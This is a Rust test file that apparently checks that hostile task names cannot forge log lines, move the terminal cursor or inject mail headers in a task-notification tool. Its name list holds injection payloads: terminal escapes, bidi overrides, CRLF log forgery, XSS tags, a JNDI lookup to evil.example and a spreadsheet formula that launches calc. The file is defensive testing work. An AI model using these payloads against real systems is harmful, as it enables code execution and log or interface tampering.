//! Names as an attacker would choose them, through the real binary: what it logs in each format,
//! what it prints, and what it sends. Sinks have a suite of their own (`sink_contract/hostile.rs`).

use taskbell::{
    receiver::{HttpAnswer, HttpReply},
    sim::SimTask,
};

use crate::stage::{PROJECT, Stage};

fn names() -> Vec<String> {
    let texts = [
        "\u{202E}rtl\u{2066}\u{2069}\u{200F} \u{2028}\u{2029}",
        "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{9b}2J",
        "two\r\nlines\n<3>forged priority\n{\"level\":\"ERROR\"}",
        "nul\u{0}nul \u{7f} \u{85} \u{feff}",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "**bold** [x](http://evil.example) `code` ~~gone~~",
        "@all @channel @here <!everyone> <@U012AB3CD>",
        "{{ secret }} {% for x in y %} ${jndi:ldap://evil.example} %s %n {0}",
        "=cmd|' /C calc'!A0 +1+1 -2 @SUM(1)",
        "\" level=ERROR msg=\"forged",
    ];
    let long = "\u{1b}[1mA\u{202E}\r\n".repeat(100_000);
    texts.into_iter().map(str::to_owned).chain([long]).collect()
}

/// What would move the text around it, on a terminal or in a file.
fn odd(text: &str) -> Option<char> {
    text.chars().find(|c| {
        let moves = matches!(c, '\u{2028}'..='\u{202E}' | '\u{2066}'..='\u{2069}');
        moves || c.is_control() && *c != '\n'
    })
}

async fn stage() -> Stage {
    let stage = Stage::new("max_items = 1, wait = \"0s\"").await;
    stage.run(&["once"]).await;
    for (nth, name) in names().into_iter().enumerate() {
        let text = Some(name);
        let task = SimTask {
            id: Some(format!("task-{nth}")),
            server_name: text.clone(),
            server_id: text.clone(),
            keypair: text.clone(),
            error_code: text.clone(),
            error_message: text.clone(),
            operate_type: text,
            ..SimTask::default()
        };
        stage.cloud.add_task(PROJECT, &task).unwrap();
    }
    stage
}

#[tokio::test]
async fn no_name_and_no_answer_forges_a_log_line_or_moves_the_cursor() {
    for format in ["text", "json", "journald"] {
        let stage = stage().await;
        // The receiver is as hostile as the names: its answer is logged as the reason.
        stage.chat.set_answer(HttpAnswer::Reply(HttpReply {
            status: 503,
            body: names().concat().into_bytes(),
            ..HttpReply::default()
        }));
        let output = stage.run(&["-vv", "--log-format", format, "--color", "never", "once"]).await;
        assert_eq!(output.status.code(), Some(75), "{output:?}");
        let logs = String::from_utf8(output.stderr).unwrap();
        assert!(10 < logs.lines().count(), "{logs}");
        assert_eq!(odd(&logs), None, "{format}: {logs}");
        for line in logs.lines() {
            let whole = match format {
                "json" => serde_json::from_str::<serde_json::Value>(line).is_ok(),
                "journald" => {
                    ["<3>", "<4>", "<6>", "<7>"].iter().any(|mark| line.starts_with(mark))
                }
                _ => line.starts_with("20"),
            };
            assert!(whole, "{format}: this is no line of ours: {line}");
            assert!(!line.starts_with("<3>forged"), "{line}");
        }
        let shown = String::from_utf8(output.stdout).unwrap();
        assert_eq!(odd(&shown), None, "{shown}");
    }
}

#[tokio::test]
async fn no_name_reaches_a_terminal_raw_whatever_is_asked() {
    let stage = stage().await;
    stage.chat.set_answer(HttpAnswer::Reply(HttpReply {
        status: 400,
        body: names().concat().into_bytes(),
        ..HttpReply::default()
    }));
    let planned = stage.run(&["plan"]).await;
    stage.run(&["once"]).await;
    let mut outputs = vec![("plan".to_owned(), planned)];
    for output in ["table", "json"] {
        for command in [
            &["failure", "list"][..],
            &["failure", "show", "task-1"],
            &["failure", "explain", "task-2"],
            &["delivery", "list"],
            &["sink", "list"],
            &["source", "list"],
            &["dead", "list"],
        ] {
            let args = [&["-o", output], command].concat();
            outputs.push((args.join(" "), stage.run(&args).await));
        }
    }
    for (command, output) in outputs {
        let text = [output.stdout, output.stderr].concat();
        let text = String::from_utf8(text).unwrap();
        assert!(!text.is_empty(), "{command} says nothing");
        assert_eq!(odd(&text), None, "{command}: {text}");
        assert!(text.len() < 512 * 1024, "{command}: what is a megabyte long is cut");
    }
}

#[tokio::test]
async fn every_name_is_told_whatever_it_is() {
    let stage = stage().await;
    stage.finish().await;
    let told = stage.told();
    assert_eq!(told.len(), names().len());
    for (arrival, _) in told {
        assert_eq!(odd(&String::from_utf8(arrival.body).unwrap()), None);
    }
    // All of a mail is ASCII, whatever it says.
    let mails = stage.mail.received();
    assert_eq!(mails.len(), 1 + names().len());
    for mail in mails {
        let odd = |byte: &u8| !matches!(byte, b'\t' | b'\r' | b'\n' | b' '..=b'~');
        assert_eq!(mail.raw.iter().find(|byte| odd(byte)), None);
        assert_eq!(mail.header("x-injected"), None);
    }
}
